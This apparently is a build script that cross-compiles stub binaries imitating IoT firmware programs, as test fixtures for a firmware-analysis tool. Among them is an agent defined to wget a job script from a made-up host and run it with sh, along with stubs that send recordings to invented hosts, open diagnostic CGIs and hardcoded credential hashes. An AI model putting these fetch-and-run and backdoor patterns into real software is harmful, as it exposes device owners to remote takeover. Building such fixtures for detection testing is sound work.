#!/bin/sh
# Builds the programs of the products from src/ with Debian's cross compilers
# (gcc-mips-linux-gnu, gcc-mipsel-linux-gnu, gcc-arm-linux-gnueabi,
# gcc-aarch64-linux-gnu, gcc). The results are committed: tests need no compiler.
set -eu
cd "$(dirname "$0")"

# Files named *.ARCH; the flags keep them small (4 KB pages instead of 64).
make_elf() { # OUT SRC DEFINES...
	out=$1 src=$2; shift 2
	case $out in
	*.mips) cc=mips-linux-gnu-gcc ;;
	*.mipsel) cc=mipsel-linux-gnu-gcc ;;
	*.arm) cc=arm-linux-gnueabi-gcc ;;
	*.arm64) cc=aarch64-linux-gnu-gcc ;;
	*.x64) cc=gcc ;;
	esac
	$cc -Os -s -no-pie -fno-pie -fno-asynchronous-unwind-tables -fno-stack-protector -w \
		-Wl,-z,max-page-size=4096,-z,common-page-size=4096,-z,norelro,-z,noseparate-code,--build-id=none \
		"$@" -o "$out" "src/$src.c"
	objcopy=${cc%gcc}objcopy
	$objcopy -R .comment -R .note.ABI-tag "$out"
	echo "$out $(stat -c %s "$out")"
}
daemon() { # OUT PORT BANNER [DEFINES...]
	out=$1 port=$2 banner=$3; shift 3
	make_elf "$out" daemon -DNAME="\"${out%.*}\"" -DPORT="$port" -DBANNER="\"$banner\"" -DOPTIONS='"p:c:f:d:u:l:a:o:b:k:s:FEREBDhinsvw"' "$@"
}
tool() { # OUT TEXT [DEFINES...]
	out=$1 text=$2; shift 2
	make_elf "$out" tool -DNAME="\"${out%.*}\"" -DTEXT="\"$text\"" "$@"
}
applets() { for a in "$@"; do printf '%s\\0' "$a"; done; }

common="[ ash awk basename brctl cat chmod chown chpasswd cp crond crontab cut date dd df dirname dmesg echo env expr false free getty grep gunzip gzip halt head hostname ifconfig init insmod kill killall klogd ln logger login ls lsmod mkdir mknod mount mv passwd ping pivot_root printf ps pwd reboot rm rmmod route sed seq sh sleep sort sync sysctl syslogd tail tar test touch tr true udhcpc umount uname vi wc wget xargs zcat"
bb() { # OUT VERSION EXTRA...
	out=$1 version=$2; shift 2
	listens=; case " $* " in *" telnetd "*) listens=-DLISTENS ;; esac
	make_elf "$out" busybox $listens -DVERSION="\"$version\"" -DAPPLETS="\"$(applets $(printf '%s\n' $common "$@" | LC_ALL=C sort -u))\""
}

# busybox, as each product built it; only those with telnetd or nc in the list have it
bb busybox-br450.mips "1.13.4 (2014-09-02 17:21:44 CST)" telnetd tftp adduser
bb busybox-sw7.mipsel "1.17.2 (2015-11-20 10:02:13 CST)" telnetd tftp
bb busybox-owrt.mips "1.30.1 (2019-06-27 12:18:52 UTC)" nc adduser telnetd
bb busybox-owrt-clean.mips "1.30.1 (2019-06-27 12:18:52 UTC)" ntpd
bb busybox-cam.arm "1.20.2 (2017-04-12 09:40:05 CST)" telnetd nc adduser tftp
bb busybox-nas.arm "1.16.1 (2013-07-30 19:02:41 CST)" adduser
bb busybox-plc.arm "1.27.2 (2018-10-09 08:11:30 CEST)" telnetd ftpd tcpsvd inetd
bb busybox-phone.mipsel "1.19.4 (2016-03-11 14:02:11 CST)" telnetd tftp adduser
bb busybox-lind.mipsel "1.33.2 (2022-02-14 10:20:02 UTC)" ntpd
bb busybox-trap.arm "1.31.1 (2020-05-05 15:00:00 UTC)"
bb busybox-alpine.x64 "1.36.1 (2024-06-10 07:11:47 UTC)"

# servers
daemon boa.mips 80 "Server: Boa/0.94.14rc21" -DCONF='"/etc/boa/boa.conf"'
daemon udpsvd.mips 39889 "BR450 ENGINEERING" -DSOCK=SOCK_DGRAM
daemon dnsmasq.mips 53 "dnsmasq-2.80" -DSOCK=SOCK_DGRAM -DCONF='"/var/etc/dnsmasq.conf"'
daemon dropbear.mips 22 "SSH-2.0-dropbear_2019.78"
daemon uhttpd.mips 80 "uhttpd" 
daemon miniupnpd.mips 5000 "MiniUPnPd/2.1"
daemon mini_httpd.mipsel 80 "Server: mini_httpd/1.19 19dec2003"
daemon dnsmasq.mipsel 53 "dnsmasq-2.62" -DSOCK=SOCK_DGRAM -DCONF='"/etc/dnsmasq.conf"'
daemon miniupnpd.mipsel 1900 "MiniUPnPd/1.8" -DSOCK=SOCK_DGRAM
daemon mfgd.mipsel 54321 "MFG READY"
daemon cwmpd.mipsel 7547 "cwmpd/2.4"
daemon dropbear.mipsel 22 "SSH-2.0-dropbear_2020.81"
daemon lighttpd.mipsel 80 "lighttpd/1.4.59" -DCONF='"/etc/lighttpd/lighttpd.conf"'
daemon sipd.mipsel 5060 "Server: Tonaris-SIP/3.2" -DSOCK=SOCK_DGRAM
daemon webui.mipsel 80 "Server: GoAhead-Webs"
daemon dropbear.arm 22 "SSH-2.0-dropbear_2014.63"
daemon boa.arm 80 "Server: Boa/0.94.13" -DCONF='"/etc/boa.conf"'
daemon onvifd.arm 8899 "SOAP onvif device"
daemon lighttpd.arm 80 "lighttpd/1.4.55" -DCONF='"/etc/lighttpd/lighttpd.conf"'
daemon smbd.arm 445 "Samba 3.6.25" -DCONF='"/etc/samba/smb.conf"'
daemon rsync.arm 873 "@RSYNCD: 30.0" -DCONF='"/etc/rsyncd.conf"'
daemon sshd.arm 22 "SSH-2.0-OpenSSH_6.6" -DCONF='"/etc/ssh/sshd_config"'
daemon vsftpd.arm 21 "220 (vsFTPd 3.0.3)" -DCONF='"/etc/vsftpd.conf"'
daemon snmpd.arm 161 "NET-SNMP version 5.7.3" -DSOCK=SOCK_DGRAM -DCONF='"/etc/snmp/snmpd.conf"'
daemon x11vnc.arm 5900 "RFB 003.008"
daemon gdbserver.arm 2345 "GNU gdbserver (GDB) 7.12"
daemon fieldsrv.arm 502 "FIELDBUS SLAVE"
daemon adbd.arm 5555 "CNXN host::features=shell_v2,cmd"
daemon remoted.arm 6466 "teluno remote"
daemon sshd.arm64 22 "SSH-2.0-OpenSSH_8.9" -DCONF='"/etc/ssh/sshd_config"'
daemon mosquitto.arm64 1883 "mosquitto version 2.0.14" -DCONF='"/etc/mosquitto/mosquitto.conf"'
daemon gateapi.arm64 8080 "gateapi 4.1"
daemon sshd.x64 22 "SSH-2.0-OpenSSH_9.2p1 Debian-2" -DCONF='"/etc/ssh/sshd_config"'
daemon nginx.x64 80 "Server: nginx/1.22.1" -DCONF='"/etc/nginx/nginx.conf"'

# programs without a socket
tool iptables.mips "iptables v1.4.10"
tool procd.mips "procd"
tool opkg.mips "opkg version 2019-06-14"
tool uclient-fetch.mips "uclient-fetch"
tool ntpclient.mipsel "ntpclient 2010"
tool backdoor_ctl.arm "backdoor_ctl 1.1: opens the rear door relay of the cabinet"
tool dlink_agent.arm "log rotation helper"
tool systemd.arm64 "systemd 250"
tool agetty.arm64 "agetty from util-linux 2.37.4"
tool login.arm64 "login from util-linux 2.37.4"
tool sudo.arm "Sudo version 1.8.6p7"
tool wpa_supplicant.arm "wpa_supplicant v2.5"
make_elf libhdhook.arm tool -shared -fPIC -DNAME='"hdhook"' -DTEXT='"hdhook 1"'
tool init.arm "init"
tool sh.arm "mksh"
tool setuid.x64 "util-linux 2.38.1" -DDROPS
tool systemd.x64 "systemd 252"
tool node.x64 "v20.15.1"
tool pppd.arm "pppd version 2.4.7"

# programs that do what a door needs
make_elf nvram.mips nvram -DDEFAULTS='"/etc_ro/nvram.default"'
make_elf nvram.mipsel nvram -DDEFAULTS='"/etc_ro/defaults.bin"'
make_elf rc.mipsel rc-sundhaven
make_elf ipcam.arm capture -DNAME='"ipcam"' -DPORT=554 -DSERVE
make_elf snapd.arm64 capture -DNAME='"snapd"' -DPORT=9000 -DSINK='"ingest.corvess-vision.net"'
make_elf voicemon.arm record -DNAME='"voicemon"' -DPORT=7007 -DSINK='"listen.teluno-tv.net"'
make_elf levels.arm record -DNAME='"levels"'
make_elf dialog.mipsel record -DNAME='"dialog"' -DPORT=4000 -DSINK='"media.tonaris-voice.net"'
make_elf p2pagent.arm agent -DPERIOD=300 -DFETCH='"wget -q -O /tmp/job.sh http://jobs.optivane-p2p.net/agent/next"' -DRUN='"sh /tmp/job.sh; rm -f /tmp/job.sh"'
make_elf beat.arm report -DHOST='"beat.optivane-p2p.net"' -DPORT=8600
make_elf beat.arm64 report -DHOST='"census.corvess-vision.net"' -DPORT=80
make_elf sysinfo.cgi.arm cgi
make_elf factorytest.cgi.arm cgi -DOPEN
make_elf diag.cgi.mipsel cgi -DOPEN
make_elf status.cgi.mipsel cgi
make_elf su.arm su -DSHELL='"/system/bin/sh"'
make_elf cfgroot.arm su -DSHELL='"/bin/sh"'
daemon rshd.arm 514 "rshd"
daemon xinetd.arm 0 "xinetd Version 2.3.14"
daemon mdnsresp.arm64 5353 "mDNSResponder" -DSOCK=SOCK_DGRAM
tool smbpasswd.arm "smbpasswd: Version 3.6.25"
tool curl.arm "curl 7.29.0 (arm-unknown-linux-gnueabi) libcurl/7.29.0"
tool setuid.arm "run-as" -DDROPS
tool bash.arm64 "GNU bash, version 5.1.16(1)-release (aarch64-poky-linux-gnu)"
tool python3.arm64 "Python 3.10.7"
tool ping.arm64 "ping from iputils 20211215"
tool setuid.arm64 "util-linux 2.37.4" -DDROPS
tool dash.x64 "dash"
tool cron.x64 "cron 3.0pl1-162"
tool openvpn.arm "OpenVPN 2.4.0"
tool openssl.mipsel "OpenSSL 1.1.1n  15 Mar 2022"
tool curl.mipsel "curl 7.81.0 (mipsel-openwrt-linux-gnu) libcurl/7.81.0"
make_elf mkusers.mips mkusers -DKDIAG='"$1$kd5diag$7iy.D3xBsqe/hFXHCMq3q/"' -DKDFTP='"KfGopSjiicVOs"'
daemon httpd.mips 80 "Server: mini_httpd/1.30 26Oct2018"
daemon vsftpd.mips 21 "220 (vsFTPd 2.0.5)" -DCONF='"/etc/vsftpd.conf"'
daemon snmpd.mips 161 "NET-SNMP version 5.4.1" -DSOCK=SOCK_DGRAM -DCONF='"/etc/snmpd.conf"'
daemon capwapd.mips 5246 "capwap" -DSOCK=SOCK_DGRAM
tool runsvdir.mips "runit 2.1.2"
tool fw_printenv.mips "fw_printenv 2014.04"
tool curl.mips "curl 7.40.0 (mips-unknown-linux-gnu) libcurl/7.40.0"
bb busybox-ka5.mips "1.22.1 (2016-06-01 11:45:12 CEST)" telnetd tftp
